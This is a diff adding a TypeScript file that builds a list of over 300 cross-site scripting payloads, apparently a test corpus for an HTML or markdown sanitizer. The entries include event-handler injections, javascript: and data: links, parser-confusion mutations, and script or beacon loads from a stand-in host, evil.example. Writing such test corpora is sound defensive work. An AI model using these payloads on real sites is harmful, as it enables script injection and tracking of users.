@@ -1,0 +1,108 @@
+/** What a script of these would leave behind: a mark on the window, or a dialog. */
+const CALL = 'window.__pwned=1,alert(1)';
+const EVIL = 'https://evil.example';
+
+const HANDLERS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin'];
+const ELEMENTS = [
+  (on: string) => `<img src=x ${on}="${CALL}">`,
+  (on: string) => `<svg ${on}=${CALL}><animate attributeName=x ${on}=${CALL}></svg>`,
+  (on: string) => `<details open ${on}="${CALL}"><summary>x</summary></details>`,
+  (on: string) => `<input autofocus ${on}='${CALL}'>`,
+  (on: string) => `<video><source ${on}="${CALL}"></video>`,
+  (on: string) => `<body ${on}="${CALL}">`,
+  (on: string) => `"><p style="animation:x" ${on}="${CALL}">x</p>`,
+  (on: string) => `<a href=# ${on}=${CALL}>tap</a>`,
+  (on: string) => `<math><mi ${on}=${CALL}>x</mi></math>`,
+  (on: string) => `<IMG """><x/${on}=${CALL}//`,
+  (on: string) => `<iframe srcdoc="<b ${on}='parent.${CALL}'>x</b>"></iframe>`,
+];
+
+const SCHEMES = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  `java\tscript:${CALL}`,
+  `java&#10;script:${CALL}`,
+  `&#106;avascript:${CALL}`,
+  `\u0001javascript:${CALL}`,
+  `data:text/html,<script>parent.${CALL}</script>`,
+  `data:image/svg+xml,<svg onload='${CALL}'/>`,
+  `vbscript:${CALL}`,
+  `//evil.example/x`,
+  `${EVIL}/track.png`,
+  `blob:${EVIL}/1`,
+];
+const LINKS = [
+  (to: string) => `[点这里](${to})`,
+  (to: string) => `![图](${to})`,
+  (to: string) => `<${to}>`,
+  (to: string) => `[x]: ${to}\n\n[x]`,
+  (to: string) => `<a href="${to}">x</a>`,
+  (to: string) => `<iframe src="${to}"></iframe>`,
+  (to: string) => `<object data="${to}"></object><embed src="${to}">`,
+  (to: string) => `<form action="${to}"><button autofocus>x</button></form>`,
+  (to: string) => `<base href="${to}"><script src="x.js"></script>`,
+  (to: string) => `<link rel=stylesheet href="${to}"><style>@import "${to}";</style>`,
+  (to: string) => `<meta http-equiv=refresh content="0;url=${to}">`,
+  (to: string) => `<svg><a xlink:href="${to}"><text>x</text></a><use href="${to}"/></svg>`,
+  (to: string) => `<p style="background:url('${to}')">x</p>`,
+  (to: string) => `[![a](${to})](${to} "t")`,
+];
+
+/** Shapes in which a cleaner once read something else than the browser. */
+const MUTANTS = [
+  `<script>${CALL}</script>`,
+  `<script\n>${CALL}</script >`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
+  `<script type=module>import "${EVIL}/x.js"</script>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
+  `<template><script>${CALL}</script></template>`,
+  `<textarea><img title="</textarea><img src=x onerror=${CALL}>">`,
+  `<title><img title="</title><img src=x onerror=${CALL}>">`,
+  `<xmp><img title="</xmp><img src=x onerror=${CALL}>">`,
+  `<!--><img src=x onerror=${CALL}>-->`,
+  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
+  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
+  '```html\n<script>alert(1)</script>\n```',
+  `\`<img src=x onerror=${CALL}>\``,
+  `<div id=__proto__><form name=createElement><input name=attributes>`,
+  `{{constructor.constructor("${CALL}")()}}`,
+  `\${${CALL}}`,
+  `<%= ${CALL} %>`,
+  `]]><script>${CALL}</script>`,
+  `\u202e>tpircs/<1trela>tpircs<`,
+  `<a href="jav\u0000ascript:${CALL}">x</a>`,
+  `＜script＞${CALL}＜/script＞`,
+  `<img src="x\`\`onerror=${CALL}">`,
+  `<svg><script href="data:,${CALL}"/></svg>`,
+  `<p is=x-y slot=z onslotchange=${CALL}><slot>`,
+  `<dialog open oncancel=${CALL}><button popovertarget=x>x</button><p popover id=x onbeforetoggle=${CALL}>x</p></dialog>`,
+  `<marquee onstart=${CALL}>x</marquee>`,
+  `<table background="javascript:${CALL}"><td background="${EVIL}">x</td></table>`,
+  `<audio src=x onerror=${CALL}></audio><video poster="${EVIL}/p.png"></video>`,
+  `<input type=image src="${EVIL}/i.png" onerror=${CALL}>`,
+  `<button form=f formaction="javascript:${CALL}">x</button>`,
+  `&lt;script&gt;${CALL}&lt;/script&gt;`,
+  `%3Cscript%3E${CALL}%3C/script%3E`,
+  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
+  `<img src=x onerror\u3000=${CALL}>`,
+  `<ſcript>${CALL}</ſcript>`,
+  `<ｓcript>${CALL}</ｓcript>`,
+  `- [ ] <img src=x onerror=${CALL}>\n- [x] [a](javascript:${CALL})`,
+  `| <svg onload=${CALL}> | [a](javascript:${CALL}) |\n|---|---|\n| x | y |`,
+  `# <img src=x onerror=${CALL}>\n> [q](javascript:${CALL})\n1. <script>${CALL}</script>`,
+  `[a](<javascript:${CALL}>) [b](javascript&colon;${CALL}) [c](javascript&#x3a;${CALL})`,
+  `<javascript:${CALL}> <mailto:a@evil.example?subject=<script>>`,
+  `http://evil.example/"onmouseover="${CALL}`,
+  `https://evil.example/<script>${CALL}</script>`,
+];
+
+/** Over 300 ways in which words have become programs. */
+export const VECTORS: readonly string[] = [
+  ...HANDLERS.flatMap((on) => ELEMENTS.map((element) => element(on))),
+  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
+  ...MUTANTS,
+];
